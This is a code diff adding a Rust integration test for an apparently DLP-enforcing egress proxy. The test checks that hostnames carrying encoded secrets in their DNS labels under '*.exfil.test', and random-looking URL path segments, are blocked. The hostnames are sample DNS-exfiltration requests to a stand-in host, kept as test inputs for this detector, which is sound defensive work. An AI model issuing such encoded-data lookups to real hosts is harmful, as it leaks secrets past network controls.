@@ -1361,3 +1361,56 @@ async fn vault_placeholders_fill_the_url_and_bodies_for_their_hosts_only() {
     assert_eq!(tls_up.requests(), seen);
     assert!(!body.contains("other-host-secret-value"));
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn data_in_host_labels_is_refused_before_any_lookup_and_random_path_segments_too() {
+    // Under a wildcard, every lookup of a name below it would carry its labels out: the
+    // refusal must come from the DLP (403), never from a failed lookup (502).
+    let up = upstream(None).await;
+    let (pipelock, _egress) = chain(
+        json!([{"host": "*.exfil.test"}, {"host": "localhost", "ports": [up.addr.port()]}]),
+        json!({}),
+    )
+    .await;
+    for host in [
+        "7365637265745f6170695f6b6579.exfil.test",
+        "7365.6372.6574.5f61.7069.exfil.test",
+        "a8f3k.q9z2m.x7b4n.p1c6v.exfil.test",
+        "AKIAIOSF.ODNN7EXAMPLE.exfil.test",
+    ] {
+        let r = connect(pipelock.addr, &format!("{host}:443")).await;
+        assert_eq!(r.status, 403, "{host}: {}", r.body);
+        assert!(
+            r.reason.starts_with("blocked: secret detected (rule ")
+                && r.reason.ends_with(" in host"),
+            "{host}: {}",
+            r.reason
+        );
+        let out = curl(&["--proxy", &pipelock.url(), &format!("http://{host}/")]).await;
+        assert!(text(&out).0.contains("in host"), "{host}: {:?}", text(&out));
+    }
+    let r = connect(pipelock.addr, "7365637265745f6170695f6b6579.exfil.test:443").await;
+    assert!(r.reason.contains("rule host-encoded-data"), "{}", r.reason);
+    // A random path segment on an allowed host; the same host with a plain path is reached.
+    let host = format!("localhost:{}", up.addr.port());
+    let out = curl(&[
+        "--proxy",
+        &pipelock.url(),
+        &format!("http://{host}/api/x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE/status"),
+    ])
+    .await;
+    assert!(
+        text(&out).0.contains("rule path-random-segment) in path"),
+        "{:?}",
+        text(&out)
+    );
+    let out = curl(&[
+        "-w",
+        "%{http_code}",
+        "--proxy",
+        &pipelock.url(),
+        &format!("http://{host}/repos/acme/app/commits/3f786850e387550fdab836ed7e6dc881de23001b"),
+    ])
+    .await;
+    assert!(text(&out).0.ends_with("200"), "{:?}", text(&out));
+}
